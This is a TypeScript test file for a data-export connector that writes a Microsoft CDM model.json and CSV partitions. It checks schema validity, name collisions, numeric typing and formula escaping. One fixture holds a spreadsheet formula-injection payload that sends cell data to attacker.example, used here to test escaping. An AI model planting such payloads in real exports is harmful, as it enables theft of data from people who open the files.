import type { ColumnDefinition, ExportItem, SourceRecord } from '@outport/connector-sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkModelJson } from '../src/sandbox/index.js';
import { exportContext, parseCsv, runItems, targets, type OutputReader, type Target } from './support.js';

/**
 * What readers of the CDM folder need: every item in its own files whatever its name, and a
 * model.json that Microsoft's schema accepts, with types a reader can load the CSV with.
 */

const customerColumns: ColumnDefinition[] = [
  { name: 'id', type: 'string', nullable: false },
  { name: 'ordersCount', type: 'number' },
  { name: 'lifetimeValue', type: 'number' },
  { name: 'joined', type: 'date' },
  { name: 'updated', type: 'datetime' },
  { name: 'note', type: 'string' },
];
const NOTES = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '@SUM(A1:A9)', '+33612345678', '-1', 'plain'];
const VALUES = [2.5, 1e-7, 1e21, -3, 0];
const customers: SourceRecord[] = Array.from({ length: 50 }, (_, i) => ({
  key: `C${i}`,
  values: { id: `C${i}`, ordersCount: i % 9 === 0 ? null : i * 3, lifetimeValue: VALUES[i % VALUES.length]!, joined: '2023-05-17', updated: '2024-01-02T03:04:05.000Z', note: NOTES[i % NOTES.length]! },
}));
const customerItem: ExportItem = { kind: 'table', id: 't-customer', name: 'Customer', keyColumn: 'id', columns: customerColumns, rowCount: customers.length };

/** Two segments whose names clean to the same text, and one whose name the schema refuses outright. */
function segment(id: string, name: string, size: number, from: number): { item: ExportItem; records: SourceRecord[] } {
  const records = Array.from({ length: size }, (_, i) => {
    const key = `M${from + i}`;
    return { key, values: { key, email: `m${from + i}@example.com`, score: from + i } };
  });
  return { item: { kind: 'segment', id, name, segmentType: 'profile', memberCount: size }, records };
}
const slashVip = segment('seg-eu-slash-vip', 'EU/VIP', 839, 0);
const underscoreVip = segment('seg-eu-underscore-vip', 'EU_VIP', 377, 10_000);
const gold = segment('seg-gold', 'Q1.2026 "Gold"', 12, 20_000);

async function modelOf(reader: OutputReader): Promise<{ path: string; model: any }> {
  const models = (await reader.files()).filter((f) => f.endsWith('/model.json'));
  expect(models).toHaveLength(1);
  return { path: models[0]!, model: JSON.parse(await reader.read(models[0]!)) };
}

/** The data rows (header dropped) of every partition model.json lists for an entity. */
async function entityRows(reader: OutputReader, entity: any): Promise<string[][]> {
  const rows: string[][] = [];
  for (const partition of entity.partitions) rows.push(...parseCsv(await reader.read(reader.pathOf(partition.location))).slice(1));
  return rows;
}

describe.each(targets)('files readers accept, in $name', (target: Target) => {
  let env: Awaited<ReturnType<Target['setup']>>;
  let model: any;

  beforeAll(async () => {
    env = await target.setup();
    const result = await runItems(exportContext(env.settings, env.secrets, { audienceKind: 'members' }), [{ item: customerItem, records: customers }, slashVip, underscoreVip, gold]);
    expect(result.items.map((i) => [i.item.name, i.accepted, i.rejected.length])).toEqual([
      ['Customer', 50, 0],
      ['EU/VIP', 839, 0],
      ['EU_VIP', 377, 0],
      ['Q1.2026 "Gold"', 12, 0],
    ]);
    model = (await modelOf(env.reader)).model;
  });
  afterAll(() => env?.close());

  it('writes a model.json that passes Microsoft’s model.json schema', async () => {
    expect(await checkModelJson(model)).toEqual([]);
  });

  it('keeps segments whose names clean alike apart: each entity has its own partitions, holding every member', async () => {
    const byItem = new Map(model.entities.map((e: any) => [e.annotations.find((a: any) => a.name === 'outport:itemId')?.value, e]));
    const slash: any = byItem.get('seg-eu-slash-vip');
    const underscore: any = byItem.get('seg-eu-underscore-vip');
    expect(underscore.name).toBe('EU_VIP');
    expect(slash.name).toMatch(/^EU_VIP_[0-9a-f]{8}$/);
    expect(slash.annotations).toContainEqual({ name: 'outport:itemName', value: 'EU/VIP' });

    const locations = model.entities.flatMap((e: any) => e.partitions.map((p: any) => p.location));
    expect(new Set(locations).size).toBe(locations.length);
    for (const [entity, { records }] of [
      [slash, slashVip],
      [underscore, underscoreVip],
    ] as const) {
      const rows = await entityRows(env.reader, entity);
      expect(rows).toHaveLength(records.length);
      expect(rows.map((r) => r[0])).toEqual(records.map((r) => r.key));
    }
    // Every CSV file is listed by exactly one entity: nothing was overwritten or left out.
    const csvFiles = (await env.reader.files()).filter((f) => f.endsWith('.csv')).sort();
    expect(locations.map((l: string) => env.reader.pathOf(l)).sort()).toEqual(csvFiles);
  });

  it('names files after the cleaned name, the same on every run', async () => {
    const files = (await env.reader.files()).filter((f) => f.includes('/EU_VIP'));
    expect(files.some((f) => /\/EU_VIP_[0-9a-f]{8}\/2024\/03\/31\/1405\/EU_VIP_[0-9a-f]{8}_1\.csv$/.test(f))).toBe(true);
    expect(files.some((f) => /\/EU_VIP\/2024\/03\/31\/1405\/EU_VIP_1\.csv$/.test(f))).toBe(true);
    const goldEntity = model.entities.find((e: any) => e.annotations.some((a: any) => a.value === 'seg-gold'));
    expect(goldEntity.name).toMatch(/^Q1_2026 _Gold__[0-9a-f]{8}$/);

    const again = await runItems(exportContext(env.settings, env.secrets, { audienceKind: 'members', runId: 'run-2' }), [underscoreVip, slashVip]);
    expect(again.items.map((i) => i.accepted)).toEqual([377, 839]);
    const next = (await modelOf(env.reader)).model;
    expect(next.entities.map((e: any) => e.name)).toEqual([model.entities[2].name, model.entities[1].name]);
    expect(await checkModelJson(next)).toEqual([]);
  });

  it('declares whole-number columns as int64, dates as date, and writes numbers without exponents', async () => {
    const customer = model.entities.find((e: any) => e.name === 'Customer');
    expect(customer.attributes.map((a: any) => [a.name, a.dataType])).toEqual([
      ['id', 'string'],
      ['ordersCount', 'int64'],
      ['lifetimeValue', 'double'],
      ['joined', 'date'],
      ['updated', 'dateTime'],
      ['note', 'string'],
    ]);
    const rows = await entityRows(env.reader, customer);
    expect(rows).toHaveLength(customers.length);
    expect(rows.slice(0, 5).map((r) => r[2])).toEqual(['2.5', '0.0000001', '1000000000000000000000', '-3', '0']);
    const raw = await env.reader.read(env.reader.pathOf(customer.partitions[0].location));
    expect(raw).not.toMatch(/\de[+-]?\d/);
    // Segment members' score holds whole numbers only in this run.
    expect(model.entities[1].attributes.find((a: any) => a.name === 'score').dataType).toBe('int64');
  });

  it('leaves text as it is by default, and escapes formulas when the export asks', async () => {
    const customer = model.entities.find((e: any) => e.name === 'Customer');
    expect((await entityRows(env.reader, customer)).slice(0, 5).map((r) => r[5])).toEqual(NOTES);

    const context = exportContext(env.settings, env.secrets, { exportId: 'export-2', exportName: 'Spreadsheet copy', options: { escapeFormulas: true } });
    await runItems(context, [{ item: customerItem, records: customers }]);
    const escaped = JSON.parse(await env.reader.read((await env.reader.files()).find((f) => f.endsWith('Spreadsheet copy/model.json'))!));
    expect(await checkModelJson(escaped)).toEqual([]);
    const rows = await entityRows(env.reader, escaped.entities[0]);
    expect(rows.slice(0, 5).map((r) => r[5])).toEqual(["'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", "'@SUM(A1:A9)", "'+33612345678", "'-1", 'plain']);
    // Numbers stay numbers.
    expect(rows[3]![2]).toBe('-3');
    expect(escaped.annotations).toContainEqual({ name: 'outport:formulasEscaped', value: 'true' });
  });
});
